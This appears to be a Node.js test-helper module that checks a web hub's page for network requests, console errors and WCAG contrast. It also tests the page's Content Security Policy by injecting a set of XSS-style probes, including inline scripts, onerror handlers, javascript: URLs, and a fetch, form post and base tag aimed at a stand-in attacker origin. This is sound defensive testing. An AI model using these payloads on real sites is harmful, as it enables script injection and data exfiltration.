// The hub's own page: what it loads, what it complains of, what it lets run.
"use strict";
const fs = require("node:fs");

// Everything that a page loads and says from its first moment on.
function watch(page) {
  const seen = { requests: [], complaints: [] };
  page.on("request", (request) => seen.requests.push(request.url()));
  page.on("websocket", (socket) => seen.requests.push(socket.url()));
  page.on("console", (message) => ["error", "warning"].includes(message.type()) && seen.complaints.push(message.text()));
  page.on("pageerror", (error) => seen.complaints.push(String(error)));
  page.on("dialog", (dialog) => {
    seen.complaints.push(`dialog: ${dialog.message()}`);
    return dialog.dismiss();
  });
  return seen;
}

// How well text is read: the contrast of WCAG 2, between 1 and 21.
const contrast = () => {
  const light = (color) => {
    const [red, green, blue] = color.match(/[\d.]+/g).slice(0, 3).map((part) => part / 255)
      .map((part) => (part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4));
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue;
  };
  const { color, backgroundColor } = getComputedStyle(document.body);
  const [dark, bright] = [light(color), light(backgroundColor)].sort((left, right) => left - right);
  return { background: backgroundColor, contrast: (bright + 0.05) / (dark + 0.05) };
};

// The page of somebody who logs in, in each of both colour schemes.
async function home(world, { on, path }) {
  const hub = world.origin(on);
  const looks = {};
  const seen = [];
  for (const colorScheme of ["light", "dark"]) {
    await world.person.clearCookies();
    const page = await world.person.newPage();
    await page.emulateMedia({ colorScheme });
    seen.push(watch(page));
    await page.goto(hub + path);
    if (path === "/") {
      await world.fillIn(page);
      await page.waitForSelector("article.tile");
    }
    looks[colorScheme] = await page.evaluate(contrast);
    await page.close();
  }
  const all = (kind) => seen.flatMap((one) => one[kind]);
  // That somebody is not logged in yet is an error on the browser's console, too.
  const complaints = all("complaints").filter((text) => !text.includes("401"));
  return { looks, requests: [...new Set(all("requests").map((address) => new URL(address).host))], complaints };
}

// What a hole in the page would be used for. Each says what it did by the global `did`.
const injections = {
  "a script in the page": () => {
    document.body.append(Object.assign(document.createElement("script"), { textContent: "did = true" }));
  },
  "a handler of an event": () => {
    document.body.append(document.createRange().createContextualFragment('<img src="/none" onerror="did = true">'));
  },
  "an address that is a script": () => {
    document.body.append(Object.assign(document.createElement("iframe"), { src: "javascript:parent.did = true" }));
  },
  "a text that is run": () => {
    setTimeout("did = true");
  },
  "a script from elsewhere": (evil) => {
    const script = Object.assign(document.createElement("script"), { src: `${evil}did` });
    script.onload = () => (window.did = true);
    document.body.append(script);
  },
  "a style in the page": () => {
    document.body.append(Object.assign(document.createElement("style"), { textContent: "h1 { position: fixed }" }));
    window.did = getComputedStyle(document.querySelector("h1")).position === "fixed";
  },
  "a style of an element": () => {
    document.body.append(document.createRange().createContextualFragment('<i style="position: fixed"></i>'));
    window.did = getComputedStyle(document.querySelector("i")).position === "fixed";
  },
  "a picture from elsewhere": (evil) => {
    document.body.append(Object.assign(document.createElement("img"), { src: `${evil}picture` }));
  },
  "words to elsewhere": (evil) => void fetch(`${evil}words`, { mode: "no-cors" }).catch(() => {}),
  "a form to elsewhere": (evil) => {
    const frame = Object.assign(document.createElement("iframe"), { name: "out" });
    const form = Object.assign(document.createElement("form"), { action: `${evil}form`, target: "out" });
    document.body.append(frame, form);
    form.submit();
  },
  "a frame from elsewhere": (evil) => {
    document.body.append(Object.assign(document.createElement("iframe"), { src: `${evil}frame` }));
  },
  "another base of addresses": (evil) => {
    document.head.append(Object.assign(document.createElement("base"), { href: evil }));
    window.did = document.baseURI === evil;
  },
};

// Which of them do something: run, or reach the attacker's server.
async function inject(world, { on }) {
  await world.logIn(world.origin(on));
  const did = [];
  for (const [name, injection] of Object.entries(injections)) {
    const page = await world.open(world.origin(on));
    await page.waitForSelector("[data-connection=live]");
    world.seen.length = 0;
    const violated = page.evaluate(() => new Promise((resolve) => {
      document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
    })).catch(() => {});
    await page.evaluate(injection, world.page("cross site"));
    const ran = page.waitForFunction(() => window.did === true, null, { polling: 20 }).catch(() => {});
    const reached = (async () => {
      while (world.seen.length === 0 && !page.isClosed()) await new Promise((resolve) => setTimeout(resolve, 10));
    })();
    const first = await Promise.race([violated, ran.then(() => "ran"), reached.then(() => "reached")]);
    // Whether it was refused and happened all the same.
    const happened = world.seen.length > 0 ? "reached" : (await page.evaluate(() => window.did === true)) ? "ran" : first;
    did.push([name, happened]);
    await page.close();
  }
  return Object.fromEntries(did);
}

// Ends the browser and reads in its own log of the network which names it wanted, and where it connected to.
async function network(world) {
  await world.end();
  const log = JSON.parse(fs.readFileSync(world.netLog(), "utf8"));
  const kinds = Object.fromEntries(Object.entries(log.constants.logEventTypes).map(([name, number]) => [number, name]));
  const hosts = new Set();
  const addresses = new Set();
  for (const { type, params } of log.events) {
    if (kinds[type] === "URL_REQUEST_START_JOB" && URL.canParse(params?.url)) hosts.add(new URL(params.url).host);
    if (kinds[type] === "TCP_CONNECT_ATTEMPT" && params?.address) addresses.add(params.address);
  }
  return { hosts: [...hosts], addresses: [...addresses] };
}

module.exports = { home, inject, network, watch };
